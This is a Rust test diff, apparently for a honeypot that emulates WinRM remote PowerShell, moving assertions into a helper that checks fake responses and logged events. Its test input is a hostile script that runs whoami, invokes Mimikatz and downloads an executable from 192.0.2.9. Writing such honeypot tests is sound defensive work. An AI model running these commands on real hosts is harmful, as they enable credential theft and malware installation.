@@ -147,6 +147,32 @@ fn fetched(said: &str) -> Vec<Message> {
     texts.flat_map(|text| fragments.take(&STANDARD.decode(text).unwrap()).unwrap()).collect()
 }
 
+const SCRIPT: &str = "cd ..; (pwd).path; whoami; Invoke-Mimikatz; iwr http://192.0.2.9/x.exe -OutFile x.exe";
+
+/// What [`SCRIPT`] gave, and what was written down of it.
+fn check_remote(said: &str, told: &[(Kind, String)]) {
+    let messages = fetched(said);
+    let kinds: Vec<u32> = messages.iter().map(|message| message.kind).collect();
+    let wanted = [
+        kind::CAPABILITY,
+        kind::PRIVATE_DATA,
+        kind::POOL_STATE,
+        kind::OUTPUT,
+        kind::OUTPUT,
+        kind::ERROR,
+        kind::PIPELINE_STATE,
+    ];
+    assert_eq!(kinds, wanted, "{messages:?}");
+    assert_eq!(messages.get(3).unwrap().data, "<S>C:\\Users\\Administrator</S>");
+    assert_eq!(messages.get(4).unwrap().data, "<S>corp\\administrator</S>");
+    assert!(messages.get(5).unwrap().data.contains("The term 'Invoke-Mimikatz' is not recognized"));
+    assert!(said.contains("CommandState/Done\"") && said.contains("w:TimedOut"), "{said}");
+    let has =
+        |kind: Kind, value: &str| told.iter().any(|(known, text)| *known == kind && text.contains(value));
+    assert!(has(Kind::Command, SCRIPT) && has(Kind::DownloadAttempt, "http://192.0.2.9/x.exe"), "{told:?}");
+    assert!(has(Kind::UnknownCommand, "Invoke-Mimikatz"), "{told:?}");
+}
+
 #[test]
 fn remote_powershell_opens_a_pool_and_runs_scripts() {
     const KIND: &str = "http://schemas.microsoft.com/powershell/Microsoft.PowerShell";
@@ -176,8 +202,7 @@ fn remote_powershell_opens_a_pool_and_runs_scripts() {
             "<Obj><MS><S N=\"Cmd\">{data}</S><B N=\"IsScript\">true</B><B N=\"EndOfStatement\">false</B></MS></Obj>"
         )
     };
-    let script = "cd ..; (pwd).path; whoami; Invoke-Mimikatz; iwr http://192.0.2.9/x.exe -OutFile x.exe";
-    let pipeline = fragments(kind::CREATE_PIPELINE, &command(script.to_owned()));
+    let pipeline = fragments(kind::CREATE_PIPELINE, &command(SCRIPT.to_owned()));
     let run = format!(
         "<rsp:CommandLine CommandId=\"P1\"><rsp:Command/><rsp:Arguments>{pipeline}</rsp:Arguments></rsp:CommandLine>"
     );
@@ -191,26 +216,7 @@ fn remote_powershell_opens_a_pool_and_runs_scripts() {
     let (said, told) = talk(5985, &[("basic", "yes")], &said);
     let said = String::from_utf8(said).unwrap();
     assert!(said.contains(&format!("<rsp:ShellId>{ID}</rsp:ShellId><rsp:ResourceUri>{KIND}<")), "{said}");
-    let messages = fetched(&said);
-    let kinds: Vec<u32> = messages.iter().map(|message| message.kind).collect();
-    let wanted = [
-        kind::CAPABILITY,
-        kind::PRIVATE_DATA,
-        kind::POOL_STATE,
-        kind::OUTPUT,
-        kind::OUTPUT,
-        kind::ERROR,
-        kind::PIPELINE_STATE,
-    ];
-    assert_eq!(kinds, wanted, "{messages:?}");
-    assert_eq!(messages.get(3).unwrap().data, "<S>C:\\Users\\Administrator</S>");
-    assert_eq!(messages.get(4).unwrap().data, "<S>corp\\administrator</S>");
-    assert!(messages.get(5).unwrap().data.contains("The term 'Invoke-Mimikatz' is not recognized"));
-    assert!(said.contains("CommandState/Done\"") && said.contains("w:TimedOut"), "{said}");
-    let has =
-        |kind: Kind, value: &str| told.iter().any(|(known, text)| *known == kind && text.contains(value));
-    assert!(has(Kind::Command, script) && has(Kind::DownloadAttempt, "http://192.0.2.9/x.exe"), "{told:?}");
-    assert!(has(Kind::UnknownCommand, "Invoke-Mimikatz"), "{told:?}");
+    check_remote(&said, &told);
 }
 
 #[test]
